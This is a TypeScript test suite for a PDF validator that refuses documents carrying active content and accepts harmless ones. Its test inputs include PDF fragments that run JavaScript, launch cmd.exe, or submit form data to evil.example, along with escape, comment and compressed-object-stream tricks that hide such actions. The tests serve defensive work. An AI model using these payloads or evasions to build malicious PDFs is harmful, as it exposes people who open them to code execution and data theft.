import { deflateSync } from 'node:zlib';

import { describe, expect, it } from 'vitest';

import { assertNoActions } from './pdf-actions.ts';

const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat(
    ['%PDF-1.7\n', ...parts, '\n%%EOF\n'].map((part) =>
      typeof part === 'string' ? Buffer.from(part, 'latin1') : part,
    ),
  );
const packed = (objects: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
  pdf(`4 0 obj\n<< ${dictionary} >>\nstream\r\n`, deflateSync(objects), '\nendstream\nendobj');
const outcome = (body: Buffer) =>
  assertNoActions(body).then(
    () => 'accepted',
    (error: { code?: string }) => error.code,
  );

describe('a PDF with actions', () => {
  it.each([
    ['JavaScript', '1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'],
    ['JavaScript written with escapes', '1 0 obj\n<< /S /J#61va#53cript /JS (x) >>'],
    ['JavaScript without spaces', '1 0 obj<</S/JavaScript/JS(x)>>'],
    ['a program to start', '1 0 obj\n<< /S /Launch /F (cmd.exe) >>'],
    ['a form that sends data', '1 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>'],
    ['JavaScript after a comment that looks like a stream', '% << >>\nstream\n1 0 obj\n<< /S /JavaScript >>'],
  ])('is refused: %s', async (_name, text) => {
    expect(await outcome(pdf(text))).toBe('pdf_active');
  });

  it('is refused when the action is in a packed list of objects', async () => {
    expect(await outcome(packed('5 0 << /S /JavaScript /JS (x) >>'))).toBe('pdf_active');
    expect(await outcome(packed('5 0 << /S /Java#53cript >>', '/Type /Obj#53tm /Filter /FlateDecode'))).toBe(
      'pdf_active',
    );
  });

  const active = deflateSync('5 0 << /S /JavaScript /JS (x) >>');
  const harmless = deflateSync('5 0 << /Type /Page >>').toString('latin1');
  it.each([
    ['a text before the stream', '<</Type/ObjStm/X(a obj)/Length 9>>stream\n'],
    ['a text that looks like the stream', `<</Type/ObjStm/X(() stream\n)>>stream\n`],
    ['a text that contains another list', `<</Type/ObjStm/X(stream\n${harmless})>>stream\n`],
    ['another list in its dictionary', `<</Type/ObjStm/X stream\n${harmless}\n>>stream\n`],
    ['a comment that looks like its end', '<</Type/ObjStm % >>stream\n>>stream\n'],
    ['many spaces', `<</Type/ObjStm>>${' '.repeat(9)}stream\n`],
    ['a comment before the stream', '<</Type/ObjStm>>%c\nstream\r\n'],
    ['a large dictionary', `<</Type/ObjStm/X(${'x'.repeat(5_000)})>>stream\n`],
    ['a nested dictionary', '<</Type/ObjStm/X<</Y 1>>/Z 1>>stream\n'],
    ['a word that does not end its line', '<</Type/ObjStm>>stream \n'],
    ['a text without end', '<</Type/ObjStm/X(>>stream\n'],
  ])('is refused when the action is in a packed list of objects with %s', async (_name, dictionary) => {
    expect(await outcome(pdf(`4 0 obj\n${dictionary}`, active, '\nendstream\nendobj'))).toBe('pdf_active');
  });

  it('is refused when a list of objects is packed twice', async () => {
    const twice = deflateSync(active);
    expect(await outcome(pdf('4 0 obj<</Type/ObjStm>>stream\n', twice, '\nendstream'))).toBe('pdf_active');
  });

  it.each(['/ObjStm ', '/ObjStm(', '/ObjStm<', '/ObjStm>>stream\n', '/ObjStm<<'])(
    'is refused in less than five seconds when it repeats %j',
    async (part) => {
      const begin = performance.now();
      expect(await outcome(pdf(part.repeat(500_000)))).toBe('pdf_active');
      expect(performance.now() - begin).toBeLessThan(5_000);
    },
  );

  it('is refused when a list of objects cannot be unpacked or is too large', async () => {
    const encrypted = pdf(
      '4 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n',
      Buffer.alloc(200, 7),
      '\nendstream',
    );
    expect(await outcome(encrypted)).toBe('pdf_active');
    expect(await outcome(packed('5 0 << >>'.repeat(3_000_000)))).toBe('pdf_active');
  });
});

describe('a PDF without actions', () => {
  it('is accepted, with plain or packed objects, links and words about JavaScript', async () => {
    expect(await outcome(pdf('1 0 obj\n<< /Type /Catalog /OpenAction [3 0 R /Fit] >>'))).toBe('accepted');
    expect(await outcome(pdf('1 0 obj\n<< /S /URI /URI (https://example.com) >>'))).toBe('accepted');
    expect(await outcome(pdf('1 0 obj\n(JavaScript Launch) /JavaScriptX /Launcher'))).toBe('accepted');
    expect(await outcome(packed('5 0 << /Type /Page >>'))).toBe('accepted');
    const compact = '4 0 obj<</Filter/FlateDecode/First 4/N 1/Type/ObjStm/X(a \\) obj)>>%c\nstream\n';
    const next = '\nendstream\nendobj\n5 0 obj<</Subtype/Image>>stream\n\x07\x07\nendstream';
    expect(await outcome(pdf(compact, deflateSync('5 0<</Type/Page>>'), next))).toBe('accepted');
  });

  it('is accepted with 10 MB of picture data in less than five seconds', async () => {
    const picture = deflateSync(Buffer.alloc(30_000_000, 'photo'));
    const body = pdf(
      '4 0 obj\n<< /Subtype /Image >>\nstream\n',
      picture,
      Buffer.alloc(10_000_000, '\x8f#4'),
      '\nendstream',
    );
    const begin = performance.now();
    expect(await outcome(body)).toBe('accepted');
    expect(performance.now() - begin).toBeLessThan(5_000);
  });
});
